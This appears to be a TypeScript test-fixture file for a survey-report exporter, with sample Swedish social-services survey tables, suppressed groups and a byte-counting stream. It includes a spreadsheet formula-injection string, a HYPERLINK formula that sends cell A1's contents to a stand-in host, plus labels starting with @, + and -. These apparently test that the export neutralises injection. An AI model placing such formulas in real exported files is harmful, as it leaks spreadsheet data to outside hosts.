import { Writable } from 'node:stream';
import { exportHeaderTexts, type TExportHeader, type TExportTable, type TReportQuestion } from './export-model.js';

/** Sample input for the export tests next to this file; the app does not use it. */

export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")';

export const SV_HEADER: TExportHeader = {
  language: 'sv',
  title: 'Socialtjänstenkäten 2012',
  waveName: '2012',
  exportedOn: '2026-11-26',
  ...exportHeaderTexts('sv', 5),
};

export const EN_HEADER: TExportHeader = {
  ...SV_HEADER,
  language: 'en',
  title: 'Social services survey 2012',
  ...exportHeaderTexts('en', 5),
};

/** Q1 of the 2012 report, a breakdown with a suppressed group, and a hostile question text. */
export function sampleTables(): TExportTable[] {
  return [
    {
      sheetName: 'F1 Upplever du ett tryck på att bli mer restriktiv',
      title: 'Upplever du ett tryck på att bli mer restriktiv i att godkänna ansökningar?',
      columns: [{ label: 'Alternativ' }, { label: 'Procent', kind: 'percent' }, { label: 'Värden', kind: 'integer' }],
      rows: [
        ['Ja', 72.8, 131],
        ['Nej', 17.2, 31],
        ['Vet ej', 10, 18],
      ],
      footer: [['Totalt', null, 180]],
      notes: ['Felmarginal ±6,1 procentenheter (95 %).'],
      total: 180,
      chart: { valueColumn: 1 },
    },
    {
      sheetName: 'F2 per roll: ekonomiska/förutsättningar [*]',
      title: 'De ekonomiska förutsättningarna gör det omöjligt att göra ett bra jobb – efter roll',
      columns: [
        { label: 'Roll' },
        { label: 'Procent instämmer', kind: 'percent' },
        { label: 'Antal', kind: 'integer' },
      ],
      rows: [
        ['Socialsekreterare', 84.2, 120],
        ['Biståndsbedömare', { suppressed: true }, { suppressed: true }],
        ['Annan', { suppressed: true }, { suppressed: true }],
      ],
      footer: [['Totalt', 83.5, 182]],
      total: 182,
      chart: { valueColumn: 1 },
    },
    {
      sheetName: HOSTILE_TITLE,
      title: HOSTILE_TITLE,
      columns: [{ label: '@Alternativ' }, { label: 'Procent', kind: 'percent' }, { label: 'Värden', kind: 'integer' }],
      rows: [
        ['+Ja', 40.5, 17],
        ['-Nej', 59.5, 25],
      ],
      footer: [['Totalt', null, 42]],
      total: 42,
      chart: { valueColumn: 1 },
    },
  ];
}

/** The groups of a breakdown by area, two of them hidden, and one for those who skipped the question. */
export const AREA_GROUPS = [
  'Ekonomiskt bistånd',
  'Barn och unga',
  'Vuxna/missbruk',
  'Annat',
  'Äldreomsorg',
  'Funktionsnedsättning',
  'Ej svar',
] as const;

/**
 * The report's questions: the sample tables numbered, Q1 with its margins and a breakdown by
 * area with more groups than fit across a page, and two free-text questions, one with its
 * comments and one with too few writers.
 */
export function sampleQuestions(): TReportQuestion[] {
  const [q1, q2, q3] = sampleTables() as [TExportTable, TExportTable, TExportTable];
  const withMargins: TExportTable = {
    ...q1,
    columns: [...q1.columns, { label: 'Felmarginal', kind: 'margin' }],
    rows: [
      ['Ja', 72.8, 131, 6],
      ['Nej', 17.2, 31, 4.7],
      ['Vet ej', 10, 18, 0.02],
    ],
    footer: [['Totalt', null, 180, null]],
    notes: ['Felmarginal i procentenheter (95 %).'],
  };
  const breakdown: TExportTable = {
    sheetName: '1 Uppdelat efter',
    title: 'Uppdelat efter: Inom vilket område arbetar du?',
    columns: [{ label: 'Alternativ' }, ...AREA_GROUPS.map((label) => ({ label, kind: 'text' as const }))],
    rows: ['Ja', 'Nej', 'Vet ej'].map((label, i) => [
      label,
      ...AREA_GROUPS.map((_, g) =>
        g === 2
          ? { suppressed: true as const, marker: SV_HEADER.protectedMarker }
          : g === 3
            ? { suppressed: true as const }
            : `${[70.1, 20.4, 9.5][i]?.toFixed(1).replace('.', ',')} % (${10 + g + i})`,
      ),
    ]),
    footer: [
      [
        'Totalt',
        ...AREA_GROUPS.map((_, g) =>
          g === 2
            ? { suppressed: true as const, marker: SV_HEADER.protectedMarker }
            : g === 3
              ? { suppressed: true as const }
              : 40 + g,
        ),
      ],
    ],
    notes: ['Procent av gruppens svar på frågan, antal inom parentes.'],
  };
  return [
    { number: 1, title: q1.title, lines: [], table: withMargins, breakdown, comments: [] },
    { number: 2, title: q2.title, lines: [], table: q2, comments: [] },
    {
      number: 3,
      title: 'Hur upplever du arbetsbelastningen?',
      lines: ['12 har skrivit en kommentar.'],
      comments: ['Ärendemängden har ökat – och det märks.', 'Vi hinner inte med uppföljningen.'],
    },
    { number: 4, title: q3.title, lines: [], table: q3, comments: [] },
    {
      number: 5,
      title: 'Övriga kommentarer',
      lines: ['3 har skrivit en kommentar.', 'Kommentarerna återges när minst 10 har skrivit.'],
      comments: [],
    },
  ];
}

/** A sink that only counts bytes, or collects them when asked to. */
export function byteSink(options: { keep: boolean }): Writable & { bytes: number; body: () => Buffer } {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, callback) {
      sink.bytes += chunk.length;
      if (options.keep) chunks.push(chunk);
      callback();
    },
  }) as Writable & { bytes: number; body: () => Buffer };
  sink.bytes = 0;
  sink.body = () => Buffer.concat(chunks);
  return sink;
}
